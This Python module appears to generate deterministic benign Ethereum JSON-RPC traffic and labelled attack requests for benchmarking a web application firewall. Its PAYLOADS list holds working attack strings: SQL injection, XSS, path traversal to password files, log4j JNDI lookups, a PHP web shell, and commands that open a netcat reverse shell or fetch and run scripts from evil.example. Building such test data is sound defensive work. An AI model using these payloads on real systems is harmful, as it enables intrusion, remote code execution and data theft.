"""The request mixes of the WAF benchmark (``bench/waf.py``), as plain data both engines are fed from.

- ``benign_requests()``: what an Ethereum gateway zone sees: JSON-RPC POSTs to ``/v1/mainnet`` (``eth_call``,
  ``eth_getBalance``, ``eth_getLogs`` with hex parameters, ``eth_blockNumber``, ``eth_getTransactionReceipt``,
  batches) from web3.py, ethers, viem and curl, and a few GETs (health check, favicon, the root page);
- ``attack_requests()``: SQL injection, cross-site scripting, path traversal, log4j (JNDI lookups), command
  injection and PHP/Java code injection, in the query string, in headers (User-Agent, Referer, Cookie, X-Api-Version)
  and in JSON-RPC parameters; each request carries one attack, labelled with its kind and where it is.

Both mixes are deterministic: the same requests, byte for byte, on every run (hex values come from a seeded
generator), so detection counts can be compared from one run to the next.
"""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

HOST: Final = "eth.example.com"
RPC_PATH: Final = "/v1/mainnet"

Header = tuple[bytes, bytes]


@dataclass(frozen=True, slots=True)
class HttpRequest:
    """One HTTP/1.1 request as the edge parses it: header names lower-case, the query without its ``?``, the raw
    (percent-encoded) path. ``label`` names the request's kind (``eth_call``, ``sqli/query``, ...)."""

    label: str
    method: str
    host: str
    path: str
    query: str
    headers: tuple[Header, ...]
    body: bytes
    client_ip: str

    @property
    def uri(self) -> str:
        """The request target: the path, and ``?query`` when there is one."""
        return f"{self.path}?{self.query}" if self.query else self.path


# -- clients -------------------------------------------------------------------------------------------------------

SAFARI: Final = (
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    b"Version/18.1 Safari/605.1.15"
)

# The headers each client library sends with a JSON-RPC POST (besides Host and Content-Length).
CLIENTS: Final[Sequence[tuple[Header, ...]]] = (
    (  # web3.py (requests)
        (b"user-agent", b"web3.py/7.5.0/<class 'web3.providers.rpc.rpc.HTTPProvider'>"),
        (b"accept-encoding", b"gzip, deflate"),
        (b"accept", b"*/*"),
        (b"connection", b"keep-alive"),
        (b"content-type", b"application/json"),
    ),
    (  # ethers v6 (Node's fetch)
        (b"accept", b"*/*"),
        (b"accept-encoding", b"gzip"),
        (b"content-type", b"application/json"),
        (b"user-agent", b"ethers/6.13.4"),
        (b"connection", b"keep-alive"),
    ),
    (  # viem in a browser
        (b"accept", b"*/*"),
        (b"accept-language", b"en-US,en;q=0.9"),
        (b"content-type", b"application/json"),
        (b"origin", b"https://app.example.com"),
        (b"referer", b"https://app.example.com/swap"),
        (b"user-agent", SAFARI),
        (b"accept-encoding", b"gzip, deflate, br"),
    ),
    (  # curl
        (b"user-agent", b"curl/8.5.0"),
        (b"accept", b"*/*"),
        (b"content-type", b"application/json"),
    ),
)

BROWSER_HEADERS: Final[tuple[Header, ...]] = (
    (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"),
    (b"accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"accept-language", b"en-US,en;q=0.5"),
    (b"accept-encoding", b"gzip, deflate, br"),
    (b"connection", b"keep-alive"),
)

# Well-known mainnet contracts and topics, so that the parameters look like real traffic.
CONTRACTS: Final = (
    "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48",  # USDC
    "0xdac17f958d2ee523a2206206994597c13d831ec7",  # USDT
    "0xc02aaa39b223fe8d0a0e5c4f27ead9083c756cc2",  # WETH
    "0x7a250d5630b4cf539739df2c5dacb4c659f2488d",  # Uniswap V2 router
)
TRANSFER_TOPIC: Final = "0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef"
SELECTORS: Final = ("0x70a08231", "0x18160ddd", "0xdd62ed3e", "0x313ce567", "0x06fdde03")  # balanceOf, ...


def _request(label: str, method: str, path: str, query: str, headers: Sequence[Header], body: bytes,
             client_ip: str) -> HttpRequest:  # fmt: skip
    full: list[Header] = [(b"host", HOST.encode())]
    full.extend(headers)
    if body or method == "POST":
        full.append((b"content-length", str(len(body)).encode()))
    return HttpRequest(label, method, HOST, path, query, tuple(full), body, client_ip)


def _rpc_body(calls: list[dict[str, object]]) -> bytes:
    document: object = calls[0] if len(calls) == 1 else calls
    return json.dumps(document, separators=(",", ":")).encode()


def _call(ident: int, method: str, params: list[object]) -> dict[str, object]:
    return {"jsonrpc": "2.0", "id": ident, "method": method, "params": params}


class _Hex:
    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)

    def address(self) -> str:
        return f"0x{self._random.getrandbits(160):040x}"

    def word(self) -> str:
        return f"{self._random.getrandbits(256):064x}"

    def block(self) -> str:
        return hex(21_000_000 + self._random.randrange(500_000))

    def pick(self, options: Sequence[str]) -> str:
        return options[self._random.randrange(len(options))]


def _benign_calls(hex_: _Hex, ident: int) -> list[tuple[str, dict[str, object]]]:
    address = hex_.address()
    start = hex_.block()
    return [
        ("eth_call", _call(ident, "eth_call", [
            {"to": hex_.pick(CONTRACTS), "data": hex_.pick(SELECTORS) + "000000000000000000000000" + address[2:]},
            "latest",
        ])),
        ("eth_getBalance", _call(ident, "eth_getBalance", [address, hex_.pick(("latest", "pending", start))])),
        ("eth_getLogs", _call(ident, "eth_getLogs", [{
            "fromBlock": start,
            "toBlock": hex(int(start, 16) + 100),
            "address": hex_.pick(CONTRACTS),
            "topics": [TRANSFER_TOPIC, None, "0x000000000000000000000000" + address[2:]],
        }])),
        ("eth_blockNumber", _call(ident, "eth_blockNumber", [])),
        ("eth_getTransactionReceipt", _call(ident, "eth_getTransactionReceipt", ["0x" + hex_.word()])),
        ("eth_getBlockByNumber", _call(ident, "eth_getBlockByNumber", [start, False])),
        ("eth_estimateGas", _call(ident, "eth_estimateGas", [{
            "from": address, "to": hex_.pick(CONTRACTS), "value": "0x0",
            "data": "0xa9059cbb000000000000000000000000" + hex_.address()[2:] + hex_.word(),
        }])),
    ]  # fmt: skip


def benign_requests(count: int = 200) -> list[HttpRequest]:
    """``count`` benign requests: about 90 % single JSON-RPC POSTs, 5 % batches of 3 to 10 calls, 5 % GETs, from
    the four clients of ``CLIENTS`` in turn; the same list for the same ``count``."""
    hex_ = _Hex(seed=6)
    requests: list[HttpRequest] = []
    gets = (
        ("get/health", "/health", ""),
        ("get/root", "/", ""),
        ("get/favicon", "/favicon.ico", ""),
        ("get/status", "/v1/mainnet/status", "verbose=1&format=json"),
    )
    for index in range(count):
        client_ip = f"198.51.100.{index % 200 + 1}"
        headers = CLIENTS[index % len(CLIENTS)]
        if index % 20 == 19:
            label, path, query = gets[(index // 20) % len(gets)]
            requests.append(_request(label, "GET", path, query, BROWSER_HEADERS, b"", client_ip))
        elif index % 20 == 9:
            size = 3 + index % 8
            calls = [_benign_calls(hex_, ident)[ident % 7][1] for ident in range(1, size + 1)]
            requests.append(_request("batch", "POST", RPC_PATH, "", headers, _rpc_body(calls), client_ip))
        else:
            label, call = _benign_calls(hex_, index + 1)[index % 7]
            requests.append(_request(label, "POST", RPC_PATH, "", headers, _rpc_body([call]), client_ip))
    return requests


# -- attacks -------------------------------------------------------------------------------------------------------

# (kind, payload): one of each common attack class, in the forms scanners and exploit kits send.
PAYLOADS: Final[Sequence[tuple[str, str]]] = (
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1 UNION SELECT username, password FROM users--"),
    ("sqli", "1'; DROP TABLE accounts; --"),
    ("sqli", "1 AND SLEEP(5)"),
    ("sqli", "admin'/**/or/**/1=1#"),
    ("sqli", "1) AND extractvalue(1,concat(0x7e,(select version())))"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "javascript:alert(String.fromCharCode(88,83,83))"),
    ("xss", "<svg/onload=fetch('//evil.example/'+document.domain)>"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..%2f..%2f..%2fetc%2fshadow"),
    ("traversal", "....//....//windows/win.ini"),
    ("log4j", "${jndi:ldap://evil.example/a}"),
    ("log4j", "${${lower:j}ndi:${lower:r}mi://evil.example/x}"),
    ("rce", "; cat /etc/passwd"),
    ("rce", "| nc -e /bin/sh evil.example 4444"),
    ("rce", "$(curl http://evil.example/x.sh | sh)"),
    ("rce", "`wget http://evil.example/bot -O /tmp/b`"),
    ("php", "<?php system($_GET['c']); ?>"),
    ("java", "java.lang.Runtime.getRuntime().exec('id')"),
)  # fmt: skip

# Where an attack goes: the query string, a header, or a string in a JSON-RPC call's parameters.
PLACES: Final = ("query", "user-agent", "referer", "cookie", "x-api-version", "rpc-param")


def _attack(kind: str, payload: str, place: str, index: int) -> HttpRequest:
    client_ip = f"203.0.113.{index % 250 + 1}"
    label = f"{kind}/{place}"
    headers = dict(CLIENTS[index % len(CLIENTS)])
    if place == "query":
        query = "id=" + quote(payload, safe="")
        return _request(label, "GET", "/v1/mainnet/status", query, tuple(BROWSER_HEADERS), b"", client_ip)
    if place == "rpc-param":
        call = _call(index, "eth_call", [{"to": CONTRACTS[index % len(CONTRACTS)], "data": payload}, "latest"])
        return _request(label, "POST", RPC_PATH, "", tuple(headers.items()), _rpc_body([call]), client_ip)
    body = _rpc_body([_call(index, "eth_blockNumber", [])])
    if place == "user-agent":
        headers[b"user-agent"] = payload.encode()
    elif place == "referer":
        headers[b"referer"] = b"https://app.example.com/?q=" + quote(payload, safe="").encode()
    elif place == "cookie":
        headers[b"cookie"] = b"session=" + quote(payload, safe="").encode()
    else:
        headers[place.encode()] = payload.encode()
    return _request(label, "POST", RPC_PATH, "", tuple(headers.items()), body, client_ip)


def attack_requests() -> list[HttpRequest]:
    """Every payload of ``PAYLOADS`` in every place of ``PLACES`` (126 requests), each otherwise a normal request of
    the benign mix's shape; the same list on every call."""
    requests: list[HttpRequest] = []
    for index, (kind, payload) in enumerate(PAYLOADS):
        for offset, place in enumerate(PLACES):
            requests.append(_attack(kind, payload, place, index * len(PLACES) + offset))
    return requests
